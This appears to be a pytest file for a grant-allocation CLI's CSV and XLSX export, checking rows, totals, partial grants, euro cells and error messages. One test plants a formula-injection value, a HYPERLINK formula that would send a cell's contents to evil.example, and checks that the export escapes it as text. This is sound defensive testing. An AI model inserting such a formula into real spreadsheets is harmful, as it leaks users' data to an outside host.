"""`grantflow export CALL`: the call's allocation as CSV and XLSX, rows and totals as status shows them, safe in a spreadsheet."""

import csv
import json
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import Session
from typer.testing import CliRunner

from domain import repository as repo
from domain.decision import apply_decision
from domain.model import Organisation
from domain.store import unit_of_work
from grantflow.cli import app
from tests.helpers import hel, under_review

runner = CliRunner()


@pytest.fixture
def decided(seeded: Engine) -> Engine:
    """The seed with Soite's two decisions applied: a full grant and a partial one split per sub-area."""
    with unit_of_work(seeded) as session:
        under_review(session, "soite-fsc-2020", "soite-ru-2020")
        for application in ("soite-fsc-2020", "soite-ru-2020"):
            apply_decision(session, application, at=hel("2020-06-30 14:00"), actor="test")
    return seeded


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def cents(text: str) -> int:
    return int(Decimal(text) * 100)


@pytest.mark.parametrize("call", ["fsc-2020", "ru-2020"])
def test_the_export_has_a_row_per_application_line_and_share_and_the_totals_status_shows(decided: Engine, tmp_path: Path, call: str) -> None:
    result = runner.invoke(app, ["export", call, "--csv", str(tmp_path / "a.csv")])
    assert result.exit_code == 0, result.output
    rows = read_csv(tmp_path / "a.csv")
    shown = next(c for c in json.loads(runner.invoke(app, ["status", "--json"]).stdout)["calls"] if c["id"] == call)
    with Session(decided) as session:
        parts = {a["id"]: (len(repo.sub_areas(session, a["id"])), len(repo.participants(session, a["id"]))) for a in shown["applications"]}
    by_kind = {kind: [row for row in rows if row["kind"] == kind] for kind in ("application", "line", "participant")}
    assert [row["application"] for row in by_kind["application"]] == [a["id"] for a in shown["applications"]]
    assert len(by_kind["line"]) == sum(lines for lines, _ in parts.values())
    assert len(by_kind["participant"]) == sum(shares for _, shares in parts.values())
    assert len(rows) == sum(1 + lines + shares for lines, shares in parts.values())
    assert sum(cents(row["requested"]) for row in by_kind["application"]) == sum(a["requested_cents"] for a in shown["applications"])
    assert sum(cents(row["granted"]) for row in by_kind["application"] if row["granted"]) == sum(a["granted_cents"] or 0 for a in shown["applications"])


def test_a_partial_grant_is_split_per_line_with_its_outcome_and_decision_time(decided: Engine, tmp_path: Path) -> None:
    assert runner.invoke(app, ["export", "ru-2020", "--csv", str(tmp_path / "a.csv")]).exit_code == 0
    soite = [row for row in read_csv(tmp_path / "a.csv") if row["application"] == "soite-ru-2020"]
    assert [(row["kind"], row["granted"]) for row in soite] == [
        ("application", "2680000.00"), ("line", "580000.00"), ("line", "950000.00"), ("line", "1150000.00")
    ]
    assert {(row["outcome"], row["decided_at"]) for row in soite} == {("partial", "2020-06-30T12:00:00+03:00")}
    undecided = [row for row in read_csv(tmp_path / "a.csv") if row["application"] == "lappi-ru-2020"]
    assert {(row["granted"], row["outcome"], row["decided_at"]) for row in undecided} == {("", "", "")}


def test_the_xlsx_has_numeric_euro_cells_that_read_back_as_the_csvs_amounts(decided: Engine, tmp_path: Path) -> None:
    result = runner.invoke(app, ["export", "ru-2020", "--csv", str(tmp_path / "a.csv"), "--xlsx", str(tmp_path / "a.xlsx")])
    assert result.exit_code == 0, result.output
    sheet = load_workbook(tmp_path / "a.xlsx").active
    assert sheet is not None
    header, *cells = list(sheet.iter_rows())
    assert [cell.value for cell in header] == ["call", "application", "applicant", "title", "kind", "sub_area_or_participant", "requested", "granted",
                                               "outcome", "decided_at"]
    rows = read_csv(tmp_path / "a.csv")
    assert len(cells) == len(rows)
    for row, line in zip(rows, cells, strict=True):
        requested, granted = line[6], line[7]
        assert requested.data_type == "n" and "€" in requested.number_format
        assert round(requested.value * 100) == cents(row["requested"])
        assert (granted.value is None) if not row["granted"] else round(granted.value * 100) == cents(row["granted"])
        assert [cell.value or "" for cell in line[:6]] == [row[name] for name in ("call", "application", "applicant", "title", "kind",
                                                                                      "sub_area_or_participant")]


def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(decided: Engine, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Avaa")'
    with Session(decided) as session:
        application = repo.application(session, "soite-ru-2020")
        application.title = formula
        soite = session.get(Organisation, "soite")
        assert soite is not None
        soite.short_name = "@SUM(1+1)"
        session.add_all([application, soite])
        session.commit()
    result = runner.invoke(app, ["export", "ru-2020", "--csv", str(tmp_path / "a.csv"), "--xlsx", str(tmp_path / "a.xlsx")])
    assert result.exit_code == 0, result.output
    row = next(row for row in read_csv(tmp_path / "a.csv") if row["application"] == "soite-ru-2020")
    assert (row["title"], row["applicant"]) == ("'" + formula, "'@SUM(1+1)")
    sheet = load_workbook(tmp_path / "a.xlsx").active
    assert sheet is not None
    line = next(line for line in sheet.iter_rows(min_row=2) if line[1].value == "soite-ru-2020")
    assert (line[3].value, line[3].data_type, line[2].value, line[2].data_type) == ("'" + formula, "s", "'@SUM(1+1)", "s")
    assert not any(cell.data_type == "f" for line in sheet.iter_rows() for cell in line)


def test_an_unknown_call_is_refused_naming_call_and_no_file_is_written(seeded: Engine, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    result = runner.invoke(app, ["export", "nowhere-2020", "--csv", str(out / "a.csv"), "--xlsx", str(out / "a.xlsx")])
    assert result.exit_code == 1
    assert result.output.strip().splitlines() == ["error: CALL: no call with id 'nowhere-2020'"]
    assert list(out.iterdir()) == []


def test_an_export_without_a_file_to_write_is_refused(seeded: Engine) -> None:
    result = runner.invoke(app, ["export", "ru-2020"])
    assert result.exit_code == 1
    assert "--csv / --xlsx: give at least one file to write" in result.output


def test_a_file_that_cannot_be_written_is_refused_naming_its_option_and_nothing_else_is_written(seeded: Engine, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    result = runner.invoke(app, ["export", "ru-2020", "--csv", str(out / "a.csv"), "--xlsx", str(out / "missing" / "a.xlsx")])
    assert result.exit_code == 1
    assert f"error: --xlsx: {out / 'missing' / 'a.xlsx'} cannot be written: No such file or directory" in result.output
    assert list(out.iterdir()) == []
